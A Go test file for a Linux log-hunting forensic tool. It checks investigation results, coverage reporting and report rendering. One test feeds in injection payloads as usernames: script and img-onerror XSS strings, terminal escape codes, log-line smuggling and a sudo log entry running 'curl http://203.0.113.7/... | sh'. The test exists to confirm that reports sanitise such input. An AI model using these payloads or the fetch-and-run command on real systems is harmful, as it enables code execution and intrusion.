package hunt_test

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"iter"
	"slices"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/tuxtrail/tuxtrail/auditd"
	"github.com/tuxtrail/tuxtrail/evidence"
	"github.com/tuxtrail/tuxtrail/hunt"
	"github.com/tuxtrail/tuxtrail/logdir"
	"github.com/tuxtrail/tuxtrail/querytime"
	"github.com/tuxtrail/tuxtrail/report"
	"github.com/tuxtrail/tuxtrail/sample"
	"github.com/tuxtrail/tuxtrail/syslog"
)

const iso = "2026-11-20T10:%02d:%02d+00:00 web01 "

// lines makes an ISO log, a second for each line.
func lines(texts ...string) []byte {
	var b bytes.Buffer
	for i, s := range texts {
		fmt.Fprintf(&b, iso+"%s\n", i/60, i%60, s)
	}
	return b.Bytes()
}

func TestHostNotThere(t *testing.T) {
	_, err := hunt.Investigate(t.Context(), open(t, sample.FS()), hunt.Options{Host: "db7"})
	var he *hunt.HostError
	require.ErrorAs(t, err, &he)
	assert.Equal(t, "db7", he.Host)
	assert.Equal(t, `host db7 is not in the evidence; hosts found: vm`, err.Error())
}

func TestWindowWithoutData(t *testing.T) {
	w := querytime.Window{Start: time.Date(2020, 1, 1, 0, 0, 0, 0, time.UTC), End: time.Date(2020, 1, 2, 0, 0, 0, 0, time.UTC)}
	_, err := hunt.Investigate(t.Context(), open(t, sample.FS()), hunt.Options{Window: w})
	var we *hunt.WindowError
	require.ErrorAs(t, err, &we)
	assert.Equal(t, "no record lies in the window from 2020-01-01T00:00:00Z to 2020-01-02T00:00:00Z; the evidence spans 2026-11-23T08:26:35Z to 2026-11-23T08:29:01Z", err.Error())
}

func TestWindowCutsTheHunt(t *testing.T) {
	w := querytime.Window{End: time.Date(2026, 11, 23, 8, 27, 48, 0, time.UTC)}
	inv := investigate(t, open(t, sample.FS()), hunt.Options{Window: w})
	assert.Equal(t, 3, inv.Logons.Succeeded)
	assert.Equal(t, 22, inv.Logons.Failed)
	for _, f := range inv.Findings {
		assert.LessOrEqual(t, f.Severity.Compare(hunt.SeverityLow), 0, "guessing alone is the weather: %s", f.Title)
	}
	require.NotEmpty(t, inv.Findings)
	assert.True(t, inv.Host.Last.Before(w.End))
}

func TestBrokenInputsAreToldAndTheRestIsRead(t *testing.T) {
	good := lines("sshd[10]: Accepted password for root from 192.0.2.1 port 22 ssh2")
	var gz bytes.Buffer
	z := gzip.NewWriter(&gz)
	for i := range 5000 {
		fmt.Fprintf(z, "2026-11-19T10:%02d:%02d+00:00 web01 sshd[%d]: Failed password for root from 192.0.2.9 port %d ssh2\n", i/60%60, i%60, 100+i, 1000+i)
	}
	require.NoError(t, z.Close())
	inv := investigate(t, open(t, fstest.MapFS{
		"auth.log":      {Data: good},
		"auth.log.1.gz": {Data: gz.Bytes()[:gz.Len()/2]}, // torn
		"rubbish.log":   {Data: bytes.Repeat([]byte{0, 1, 2, 0xff, 0xfe}, 4000)},
		"syslog":        {Data: []byte{}},
	}), hunt.Options{})
	assert.Equal(t, 1, inv.Logons.Succeeded)
	assert.Positive(t, inv.Logons.Failed, "what came before the tear is read")
	told := map[string]string{}
	for _, f := range inv.Coverage.Files {
		told[f.File] = strings.Join(f.Errors, " ")
	}
	assert.NotEmpty(t, told["auth.log.1.gz"])
	assert.NotEmpty(t, told["rubbish.log"])
	assert.Empty(t, told["auth.log"])
}

func TestLongLinesAreCutAndCounted(t *testing.T) {
	data := append(lines("sshd[10]: "+strings.Repeat("x", 3<<20)), lines("sshd[11]: Failed password for root from 192.0.2.1 port 22 ssh2")...)
	inv := investigate(t, open(t, fstest.MapFS{"auth.log": {Data: data}}), hunt.Options{})
	assert.Equal(t, 1, inv.Logons.Failed)
	require.Len(t, inv.Coverage.Files, 1)
	assert.EqualValues(t, 1, inv.Coverage.Files[0].Truncated)
}

// TestHostileNames walks names that try to act on whoever reads the report
// through the whole house.
func TestHostileNames(t *testing.T) {
	names := []string{
		"<script>alert(1)</script>", "\x1b[2J\x1b]0;owned\a", "a#012Nov 20 10:00:00 web01 sshd[9]: Accepted password for root from 203.0.113.1 port 1 ssh2",
		`"><img src=x onerror=alert(1)>`, "\u202egnp.exe", "bad\xff\xfename", "=1+1", "{{.}}", "root from 8.8.8.8 port 22",
	}
	var texts []string
	for i, n := range names {
		for range 6 {
			texts = append(texts, fmt.Sprintf("sshd[%d]: Failed password for invalid user %s from 203.0.113.5 port 4711 ssh2", 100+i, n))
		}
		texts = append(texts, fmt.Sprintf("sudo: %s : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh -c 'curl http://203.0.113.7/%s | sh'", "eve", n))
	}
	texts = append(texts, "sshd[900]: Accepted password for <b>eve</b> from 203.0.113.5 port 1 ssh2")
	inv := investigate(t, open(t, fstest.MapFS{"auth.log": {Data: lines(texts...)}}), hunt.Options{})
	assert.Equal(t, 1, inv.Logons.Succeeded, "no line within a line became a logon")
	for _, s := range inv.Logons.BySource {
		assert.Equal(t, "203.0.113.5", s.Source)
	}
	var html, text, js bytes.Buffer
	require.NoError(t, report.HTML(&html, inv))
	require.NoError(t, report.Text(&text, inv, report.TextOptions{Top: 1000}))
	require.NoError(t, report.JSON(&js, inv))
	for what, b := range map[string]*bytes.Buffer{"html": &html, "text": &text, "json": &js} {
		s := b.String()
		assert.NotContains(t, s, "\x1b", what)
		assert.NotContains(t, s, "\x07", what)
		if what != "json" {
			assert.NotContains(t, s, "\u202e", what)
		}
	}
	assert.NotContains(t, html.String(), "<script>alert")
	assert.NotContains(t, html.String(), "<img")
	assert.NotContains(t, js.String(), "<script>")
	assert.Equal(t, 1, strings.Count(html.String(), "<script>"), "only our own")
	for line := range strings.Lines(text.String()) {
		assert.False(t, strings.HasPrefix(line, "Nov 20"), "a smuggled line end began a line: %q", line)
	}
	var back hunt.Investigation
	require.NoError(t, json.Unmarshal(js.Bytes(), &back))
	again, err := json.Marshal(&back)
	require.NoError(t, err)
	first, err := json.Marshal(inv)
	require.NoError(t, err)
	assert.Equal(t, string(first), string(again))
}

func blindSections(inv *hunt.Investigation) []string {
	var out []string
	for _, b := range inv.Coverage.Blind {
		out = append(out, b.Section)
	}
	return out
}

func pick(names ...string) fstest.MapFS {
	out := fstest.MapFS{}
	for _, n := range names {
		b, err := sample.FS().Open(n)
		if err != nil {
			panic(err)
		}
		var buf bytes.Buffer
		if _, err := buf.ReadFrom(b); err != nil {
			panic(err)
		}
		out[n] = &fstest.MapFile{Data: buf.Bytes()}
	}
	return out
}

// TestMissingSourcesMakeBlind takes logs away: the sections that rested on
// them must be told as blind, and a verdict must not become "not supported".
func TestMissingSourcesMakeBlind(t *testing.T) {
	for _, tc := range []struct {
		name     string
		files    []string
		blind    []string
		answers  map[hunt.Hypothesis]hunt.Answer
		sessions int
	}{
		{
			name: "without audit", files: []string{"auth.log", "syslog"}, blind: []string{"processes", "services", "network"}, sessions: 7,
			answers: map[hunt.Hypothesis]hunt.Answer{hunt.StolenCredentials: hunt.Supported, hunt.AccountMisuse: hunt.Supported, hunt.HijackedApp: hunt.CannotTell},
		},
		{
			name: "audit alone", files: []string{"audit/audit.log"}, blind: []string{"logons", "sessions", "sudo", "cron", "services"}, sessions: 7,
			answers: map[hunt.Hypothesis]hunt.Answer{hunt.StolenCredentials: hunt.Supported, hunt.AccountMisuse: hunt.Supported, hunt.HijackedApp: hunt.CannotTell},
		},
		{
			name: "auth.log alone", files: []string{"auth.log"}, blind: []string{"cron", "processes", "services", "network"}, sessions: 7,
			answers: map[hunt.Hypothesis]hunt.Answer{hunt.StolenCredentials: hunt.Supported, hunt.AccountMisuse: hunt.Supported, hunt.HijackedApp: hunt.CannotTell},
		},
		{
			name: "btmp beside audit", files: []string{"audit/audit.log", "btmp"}, blind: []string{"logons", "sessions", "sudo", "cron", "services"}, sessions: 7,
			answers: map[hunt.Hypothesis]hunt.Answer{hunt.AccountMisuse: hunt.Supported},
		},
	} {
		t.Run(tc.name, func(t *testing.T) {
			inv := investigate(t, open(t, pick(tc.files...)), hunt.Options{})
			var failed, succeeded int // su's own failures are in the log alone
			for _, p := range inv.Logons.ByProgram {
				if p.Name == "sshd" {
					failed, succeeded = p.Failed, p.Succeeded
				}
			}
			assert.Equal(t, 22, failed)
			assert.Equal(t, 7, succeeded)
			assert.Equal(t, append(tc.blind, "alerts", "flows"), blindSections(inv), "files have neither alerts nor flows")
			assert.Len(t, inv.Sessions, tc.sessions)
			for _, v := range inv.Hypotheses {
				if want, ok := tc.answers[v.Hypothesis]; ok {
					assert.Equal(t, want, v.Answer, v.Hypothesis)
				}
				if v.Answer == hunt.CannotTell {
					assert.NotEmpty(t, v.Why)
				}
			}
		})
	}
}

// brokenSource fails in every way that a source can.
type brokenSource struct{ hunt.Source }

var errGone = errors.New("disk gone")

func (brokenSource) Audit(context.Context, string, querytime.Window) iter.Seq2[*auditd.Event, error] {
	return func(yield func(*auditd.Event, error) bool) { yield(nil, errGone) }
}

func (s brokenSource) Syslog(ctx context.Context, host string, w querytime.Window) iter.Seq2[syslog.Record, error] {
	return func(yield func(syslog.Record, error) bool) {
		for rec, err := range s.Source.Syslog(ctx, host, w) {
			if !yield(rec, err) {
				return
			}
		}
		yield(syslog.Record{}, errGone)
	}
}

func (brokenSource) Raw(context.Context, evidence.Ref) ([]byte, error) { return nil, errGone }

func TestBrokenSource(t *testing.T) {
	inv := investigate(t, brokenSource{open(t, sample.FS())}, hunt.Options{})
	assert.Len(t, inv.Sessions, 7)
	assert.Empty(t, inv.Evidence)
	notes := strings.Join(inv.Coverage.Notes, "\n")
	assert.Contains(t, notes, "audit: disk gone")
	assert.Contains(t, notes, "syslog: disk gone")
	assert.Contains(t, notes, "evidence could not be read again: disk gone")
}

func TestCancelled(t *testing.T) {
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	_, err := hunt.Investigate(ctx, open(t, sample.FS()), hunt.Options{})
	assert.ErrorIs(t, err, context.Canceled)
}

func TestNothingThatSaysAnything(t *testing.T) {
	_, err := logdir.OpenFS(fstest.MapFS{}, logdir.Options{})
	assert.ErrorIs(t, err, logdir.ErrEmpty)
}

// TestOrdinaryHosts are days on hosts where nothing happened that a hunter
// should be called for.
func TestOrdinaryHosts(t *testing.T) {
	accept := func(pid int, user, from string) []string {
		return []string{
			fmt.Sprintf("sshd[%d]: Accepted publickey for %s from %s port 40000 ssh2: ED25519 SHA256:abc", pid, user, from),
			fmt.Sprintf("sshd[%d]: pam_unix(sshd:session): session opened for user %s(uid=1000) by (uid=0)", pid, user),
		}
	}
	fail := func(pid int, user, from string) string {
		return fmt.Sprintf("sshd[%d]: Failed password for %s from %s port 40000 ssh2", pid, user, from)
	}
	var gateway []string
	for i := range 40 {
		gateway = append(gateway, accept(2000+i, fmt.Sprintf("user%d", i), "192.0.2.1")...)
		if i%5 == 0 {
			gateway = append(gateway, fail(3000+i, fmt.Sprintf("user%d", i), "192.0.2.1"))
		}
	}
	for name, texts := range map[string][]string{
		"a mistyped password": append([]string{fail(1, "ann", "192.0.2.9"), fail(1, "ann", "192.0.2.9"), fail(2, "ann", "192.0.2.9")}, accept(3, "ann", "192.0.2.9")...),
		"a forgotten password": append([]string{
			fail(1, "ann", "192.0.2.9"), fail(1, "ann", "192.0.2.9"), fail(1, "ann", "192.0.2.9"), fail(2, "ann", "192.0.2.9"), fail(2, "ann", "192.0.2.9"), fail(2, "ann", "192.0.2.9"),
		}, accept(3, "ann", "192.0.2.9")...),
		"a gateway of many people": gateway,
		"administration": slices.Concat(accept(5, "ann", "192.0.2.9"), []string{
			"sudo:      ann : TTY=pts/0 ; PWD=/home/ann ; USER=root ; COMMAND=/usr/bin/apt-get update",
			"sudo:      ann : TTY=pts/0 ; PWD=/home/ann ; USER=root ; COMMAND=/usr/bin/apt-get -y upgrade",
			"sudo:      ann : TTY=pts/0 ; PWD=/home/ann ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx",
			"sudo:      ann : TTY=pts/0 ; PWD=/home/ann ; USER=root ; COMMAND=/usr/sbin/useradd -m ben",
			"useradd[77]: new group: name=ben, GID=1005",
			"useradd[77]: new user: name=ben, UID=1005, GID=1005, home=/home/ben, shell=/bin/sh, from=/dev/pts/0",
			"sudo:      ann : TTY=pts/0 ; PWD=/home/ann ; USER=root ; COMMAND=/usr/sbin/usermod -aG sudo ben",
			"usermod[78]: add 'ben' to group 'sudo'",
			"sudo:      ann : TTY=pts/0 ; PWD=/home/ann ; USER=root ; COMMAND=/usr/bin/journalctl -u nginx --since today",
			"CRON[90]: (root) CMD (cd / && run-parts --report /etc/cron.hourly)",
			"sudo:      ann : 1 incorrect password attempt ; TTY=pts/0 ; PWD=/home/ann ; USER=root ; COMMAND=/usr/bin/ls",
		}, accept(6, "ben", "192.0.2.10")),
		"the weather": func() []string {
			var out []string
			for i := range 300 {
				out = append(out, fail(5000+i, fmt.Sprintf("invalid user guess%d", i%50), "203.0.113.5"))
			}
			return out
		}(),
	} {
		t.Run(name, func(t *testing.T) {
			inv := investigate(t, open(t, fstest.MapFS{"auth.log": {Data: lines(texts...)}}), hunt.Options{})
			for _, f := range inv.Findings {
				assert.LessOrEqual(t, f.Severity.Compare(hunt.SeverityLow), 0, "%s: %s", f.Severity, f.Summary)
			}
			for _, v := range inv.Hypotheses {
				assert.NotEqual(t, hunt.Supported, v.Answer)
			}
		})
	}
}

// TestLogWithoutLogonsIsBlind: a log of the auth facility that has sudo's lines
// only does not say that nobody logged on.
func TestLogWithoutLogonsIsBlind(t *testing.T) {
	inv := investigate(t, open(t, fstest.MapFS{"auth.log": {Data: lines(
		"sudo:      ann : TTY=pts/0 ; PWD=/home/ann ; USER=root ; COMMAND=/usr/bin/apt-get update",
	)}}), hunt.Options{})
	assert.Equal(t, []string{"logons", "sessions", "processes", "services", "network", "alerts", "flows"}, blindSections(inv))
	for _, v := range inv.Hypotheses {
		assert.Equal(t, hunt.CannotTell, v.Answer, v.Hypothesis)
	}
}
